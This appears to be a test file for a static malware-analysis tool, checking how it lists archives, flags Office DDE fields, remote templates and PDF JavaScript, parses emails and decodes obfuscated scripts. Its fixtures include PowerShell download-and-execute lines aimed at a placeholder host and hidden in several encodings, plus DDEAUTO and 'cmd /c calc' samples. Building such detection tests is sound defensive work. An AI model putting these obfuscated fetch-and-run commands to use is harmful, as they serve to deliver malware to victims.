import { deflateRawSync, gzipSync } from 'node:zlib'
import { utf8 } from '@cuculus/testing'
import { describe, expect, it } from 'vitest'
import { damaged } from '../../../test/damage.js'
import { encrypted, encryptedHeader } from '../../sevenzip/test/archives.js'
import { isIso, listIso } from '../src/archive/listIso.js'
import { decodeScripts } from '../src/scriptEncoder.js'
import { runStatic } from './runStatic.js'
import { buildZip } from './buildZip.js'

const noTyper = { typer: null }

describe('archives', () => {
  it('of ZIP are listed, their contents hashed', async () => {
    const binary = buildZip({ 'a.txt': utf8('hello'), 'b/': new Uint8Array(0) })
    const { fields } = await runStatic({ binary }, noTyper)
    expect(fields?.archive).toMatchObject({ format: 'zip', encrypted: false })
    expect(fields?.archive?.entries.map(({ name, size, sha256 }) => [name, size, sha256?.slice(0, 8)])).toEqual([
      ['a.txt', 5, '2cf24dba'],
      ['b/', 0, undefined],
    ])
  })

  it('that are bombs are refused with a diagnostic', async () => {
    const { fields, diagnostics } = await runStatic({ binary: buildZip({ bomb: new Uint8Array(40_000_000) }) }, noTyper)
    expect(fields?.archive?.entries).toMatchObject([{ name: 'bomb', size: 40_000_000 }])
    expect(diagnostics).toMatchObject([{ code: 'ZIP_LIMIT' }])
  })

  it('of gzip and tar are listed', async () => {
    const tar = new Uint8Array(2048)
    tar.set(utf8('dir/file.txt'))
    tar.set(utf8('00000000005\0'), 124)
    tar.set(utf8('13640000000\0'), 136)
    tar.set(utf8('0'), 156)
    tar.set(utf8('ustar\x0000'), 257)
    tar.fill(0x20, 148, 156)
    const sum = tar.subarray(0, 512).reduce((total, byte) => total + byte, 0)
    tar.set(utf8(`${sum.toString(8).padStart(6, '0')}\0 `), 148)
    expect((await runStatic({ binary: tar }, noTyper)).fields?.archive).toEqual({
      format: 'tar',
      encrypted: false,
      entries: [
        {
          name: 'dir/file.txt',
          size: 5,
          encrypted: false,
          modified: '2020-03-29 01:55:12',
          sha256: '8855508aade16ec573d21e6a485dfd0a7624085c1a14b5ecdd6485de0c6839a4',
          type: null,
        },
      ],
    })
    const gzip = (await runStatic({ binary: gzipSync('hello world') }, noTyper)).fields?.archive
    expect(gzip).toMatchObject({ format: 'gzip', entries: [{ name: '', size: 11 }] })
  })
})

describe('lists of archives', () => {
  it('of 7z have sums and methods, and tell what is encrypted', async () => {
    const { fields } = await runStatic({ binary: encrypted }, noTyper)
    expect(fields?.archive).toMatchObject({ format: '7z', encrypted: true })
    expect(fields?.archive?.entries[2]).toEqual({
      name: 'hello.txt',
      size: 6,
      encrypted: true,
      crc32: '363a3020',
      method: 'AES-256+LZMA2',
      encryption: 'AES-256',
      modified: '2020-01-02 03:04:05',
    })
    expect((await runStatic({ binary: encryptedHeader }, noTyper)).fields?.archive).toEqual({
      format: '7z',
      encrypted: true,
      entries: [],
    })
  })

  it('of disc images have all files of the tree, once', async () => {
    const { fields } = await runStatic({ binary: discImage() }, noTyper)
    expect(fields?.archive).toMatchObject({
      format: 'iso',
      encrypted: false,
      entries: [
        { name: 'A.TXT', size: 5, encrypted: false, modified: '2020-02-03 04:05:06' },
        { name: 'DIR/B.EXE', size: 7, encrypted: false, modified: '2020-02-03 04:05:06' },
      ],
    })
    for (const bytes of damaged(discImage().subarray(16 * 2048), 500)) {
      const image = new Uint8Array(16 * 2048 + bytes.length)
      image.set(bytes, 16 * 2048)
      if (isIso(image)) expect(listIso(image).members.length).toBeLessThan(1000)
    }
  })
})

/** One record of a directory (ECMA-119 §9.1). */
function discRecord(name: string, sector: number, size: number, isFolder: boolean): Uint8Array {
  const record = new Uint8Array(34 + name.length + (name.length & 1))
  const view = new DataView(record.buffer)
  record[0] = record.length
  view.setUint32(2, sector, true)
  view.setUint32(10, size, true)
  record.set([120, 2, 3, 4, 5, 6], 18)
  record[25] = isFolder ? 2 : 0
  record[32] = name.length
  record.set(utf8(name), 33)
  return record
}

/** A disc with one folder, which leads back to the root as well. */
function discImage(): Uint8Array {
  const image = new Uint8Array(21 * 2048)
  image.set([1, ...utf8('CD001'), 1], 16 * 2048)
  image.set(discRecord('\0', 18, 2048, true), 16 * 2048 + 156)
  image.set([255, ...utf8('CD001'), 1], 17 * 2048)
  const dots = [discRecord('\0', 18, 2048, true), discRecord('\x01', 18, 2048, true)]
  image.set(Buffer.concat([...dots, discRecord('A.TXT;1', 20, 5, false), discRecord('DIR', 19, 2048, true)]), 18 * 2048)
  image.set(Buffer.concat([...dots, discRecord('B.EXE;1', 20, 7, false), discRecord('UP', 18, 2048, true)]), 19 * 2048)
  return image
}

describe('documents', () => {
  const part = (text: string): Uint8Array => utf8(`<?xml version="1.0"?>${text}`)

  it('of Word name what they load from elsewhere and which fields start programs', async () => {
    const binary = buildZip({
      '[Content_Types].xml': part('<Types/>'),
      'word/document.xml': part(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText><w:instrText xml:space="preserve">AUTO cmd &amp; x</w:instrText><w:fldChar w:fldCharType="end"/>',
      ),
      'word/_rels/settings.xml.rels': part(
        '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://example.test/t.dotm" TargetMode="External"/></Relationships>',
      ),
      'docProps/core.xml': part('<cp:coreProperties><dc:creator>Some &lt;One&gt;</dc:creator></cp:coreProperties>'),
    })
    const { fields } = await runStatic({ binary }, noTyper)
    expect(fields?.office).toMatchObject({
      format: 'ooxml',
      application: 'word',
      dde: ['DDEAUTO cmd & x'],
      external_relationships: [
        { part: 'word/settings.xml', type: 'attachedTemplate', target: 'http://example.test/t.dotm' },
      ],
      properties: [{ name: 'creator', value: 'Some <One>' }],
      urls: ['http://example.test/t.dotm'],
    })
  })

  it('of Excel name hidden sheets of macros, links and formulas that start programs', async () => {
    const binary = buildZip({
      '[Content_Types].xml': part('<Types/>'),
      'xl/workbook.xml': part('<sheets><sheet name="M" sheetId="1" state="veryHidden" r:id="r1"/></sheets>'),
      'xl/_rels/workbook.xml.rels': part('<Relationship Id="r1" Target="macrosheets/sheet1.xml"/>'),
      'xl/externalLinks/externalLink1.xml': part('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
      'xl/worksheets/sheet1.xml': part("<c><f>cmd|'/c calc'!A1</f></c><c><f>SUM(A1)</f></c>"),
    })
    const { fields } = await runStatic({ binary }, noTyper)
    expect(fields?.office?.xlm_sheets).toEqual([{ name: 'M', state: 'very hidden' }])
    expect(fields?.office?.dde).toEqual(['cmd /c calc', "cmd|'/c calc'!A1"])
  })

  it('of RTF and PDF have fields of their own', async () => {
    expect(
      (await runStatic({ binary: utf8('{\\rtf1{\\*\\template http://example.test/a}}') }, noTyper)).fields?.rtf,
    ).toMatchObject({
      templates: ['http://example.test/a'],
      urls: ['http://example.test/a'],
    })
    const pdf = utf8('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(open\\("http://example.test/"\\))>>>>endobj')
    expect((await runStatic({ binary: pdf }, noTyper)).fields?.pdf).toMatchObject({
      version: '1.4',
      javascript: [{ object: 1, urls: ['http://example.test/'] }],
      actions: [{ kind: 'JavaScript', trigger: 'OpenAction' }],
    })
  })
})

it('a file that a document holds under many names is described once', async () => {
  const names = Array.from({ length: 200 }, (_, i) => `<</F(${String(i)}.exe)/EF<</F 1 0 R>>>>`)
  const pdf = utf8(`%PDF-1.4\n1 0 obj<<>>\nstream\nMZ\nendstream endobj 2 0 obj[${names.join('')}]endobj`)
  let described = 0
  const typer = {
    name: 'test',
    headLength: 1024,
    identify: () => {
      described++
      return Promise.resolve({ type: 'executable', mime: null })
    },
  }
  const { fields } = await runStatic({ binary: pdf }, { typer })
  expect(fields?.pdf?.attachments).toHaveLength(200)
  expect(new Set(fields?.pdf?.attachments.map(({ sha256, type }) => `${sha256} ${String(type)}`)).size).toBe(1)
  expect(described).toBe(1)
})

describe('mails', () => {
  const mail = [
    'Received: from a by b',
    'From: =?utf-8?B?w4RubmE=?= <a@example.test>',
    'To: "Doe, J" <j@example.test>, k@example.test',
    'Subject: =?iso-8859-1?Q?Gr=FC=DFe?=',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="x"',
    '',
    '--x',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    'see http://example.test/=',
    'x',
    '--x',
    'Content-Type: application/octet-stream; name="a.exe"',
    'Content-Disposition: attachment; filename="a.exe"',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from('MZ payload').toString('base64'),
    '--x--',
    '',
  ].join('\r\n')

  it('have their headers, text and attachments', async () => {
    const { fields } = await runStatic({ binary: utf8(mail) }, noTyper)
    expect(fields?.email).toMatchObject({
      subject: 'Grüße',
      from: 'Änna <a@example.test>',
      to: ['"Doe, J" <j@example.test>', 'k@example.test'],
      urls: ['http://example.test/x'],
      attachments: [{ name: 'a.exe', size: 10 }],
    })
    expect(fields?.email?.body?.trim()).toBe('see http://example.test/x')
  })

  it('that are nested without end are read as far as the limits go', async () => {
    const layers = Array.from(
      { length: 200 },
      (_, index) => `From: a\r\nTo: b\r\nSubject: c\r\nContent-Type: message/rfc822; x=${String(index)}\r\n\r\n`,
    )
    const { fields, diagnostics } = await runStatic({ binary: utf8(layers.join('')) }, noTyper)
    expect(fields?.email?.subject).toBe('c')
    expect(diagnostics).toMatchObject([{ code: 'STATIC_LIMIT' }])
  })
})

describe('scripts', () => {
  const url = 'http://example.test/payload.exe'

  it.each([
    [
      'base64 of UTF-16',
      `powershell -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${url}')`, 'utf16le').toString('base64')}`,
    ],
    [
      'base64 and deflate',
      `$x = [System.Convert]::FromBase64String('${deflateRawSync(`Invoke-Expression "curl ${url}" # padding padding`).toString('base64')}')`,
    ],
    [
      'character codes',
      `var a = String.fromCharCode(${Array.from(url, (character) => character.charCodeAt(0)).join(', ')}); new ActiveXObject("x")`,
    ],
    [
      'escapes',
      `eval(unescape("${Array.from(url, (character) => `%${character.charCodeAt(0).toString(16)}`).join('')}"))`,
    ],
    [
      'Chr',
      `On Error Resume Next\nx = ${Array.from(url, (character) => `Chr(${String(character.charCodeAt(0))})`).join(' & ')}`,
    ],
  ])('hide nothing behind %s', async (_, script) => {
    const { fields } = await runStatic({ binary: utf8(`@echo off\n${script}`) }, noTyper)
    expect(fields?.script?.layers).toHaveLength(1)
    expect(fields?.script?.urls).toEqual([url])
  })

  it('hide nothing behind the Script Encoder', async () => {
    // Each line has its length in front and the sum of its characters behind.
    const binary = utf8('#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@')
    const { fields } = await runStatic({ binary }, noTyper)
    expect(fields?.script?.layers).toMatchObject([{ encoding: 'script encoder', depth: 1, text: 'MsgBox "Hello"' }])
  })

  it('that are encoded are read as far as they go, with escapes and what is not ASCII', () => {
    expect(decodeScripts('<script>#@~^DgAAAA==\\ko$K6,JC')).toEqual(['MsgBox "H'])
    expect(decodeScripts('#@~^AAAAAA==ä@&@#@*@!@$AAAAAA==^#~@ #@~^')).toEqual(['ä\n\r><@', ''])
  })

  it('hide nothing behind two layers', async () => {
    const inner = `IEX "${Buffer.from(`Start-BitsTransfer ${url} ${url}`).toString('base64')}"`
    const outer = `powershell -enc ${Buffer.from(inner, 'utf16le').toString('base64')}; $env:x = 1; Get-Item x`
    const { fields } = await runStatic({ binary: utf8(outer) }, noTyper)
    expect(fields?.script).toMatchObject({ language: 'powershell', urls: [url] })
    expect(fields?.script?.layers.map(({ depth, encoding }) => [depth, encoding])).toEqual([
      [1, 'base64, UTF-16'],
      [2, 'base64'],
    ])
  })

  it.each([
    ['javascript', 'var x = new ActiveXObject("WScript.Shell");'],
    ['vbscript', 'Set x = CreateObject("WScript.Shell")'],
    ['batch', '@echo off\r\nset a=b'],
    ['shell', '#!/bin/sh\nid'],
    ['python', '#!/usr/bin/env python3\nimport os'],
    ['html', '<!DOCTYPE html><html></html>'],
    ['internet shortcut', '[InternetShortcut]\r\nURL=http://example.test/'],
  ])('of %s are recognised', async (language, text) => {
    expect((await runStatic({ binary: utf8(text) }, noTyper)).fields?.script?.language).toBe(language)
  })

  it('are not seen in prose or data', async () => {
    const prose = 'This is a letter, with some words in it: nothing else; really.'
    expect((await runStatic({ binary: utf8(prose) }, noTyper)).fields).toEqual({})
    expect((await runStatic({ binary: Uint8Array.of(1, 0, 2, 0, 3, 0) }, noTyper)).fields).toEqual({})
  })

  it.each([
    ['base64', `@echo off\n${'QUJD'.repeat(1_500_000)}`],
    ['codes', `On Error Resume Next\n${'chr(65) & '.repeat(400_000)}`],
    ['escapes', `@echo off\n${'%41'.repeat(1_500_000)}`],
  ])('are read to their end when they are millions of %s', async (_, script) => {
    const { fields, diagnostics } = await runStatic({ binary: utf8(script) }, noTyper)
    expect(fields?.script?.layers.length).toBeGreaterThan(0)
    expect(diagnostics.map(({ code }) => code)).not.toContain('STATIC_PARSER_FAILED')
  })

  it('do not slow the search for hidden texts down', async () => {
    const gaps = `On Error Resume Next\n${`Chr(65)${' '.repeat(12)}`.repeat(7)}! `.repeat(500)
    const { fields } = await runStatic({ binary: utf8(gaps) }, noTyper)
    expect(fields?.script?.language).toBe('vbscript')
  })
})
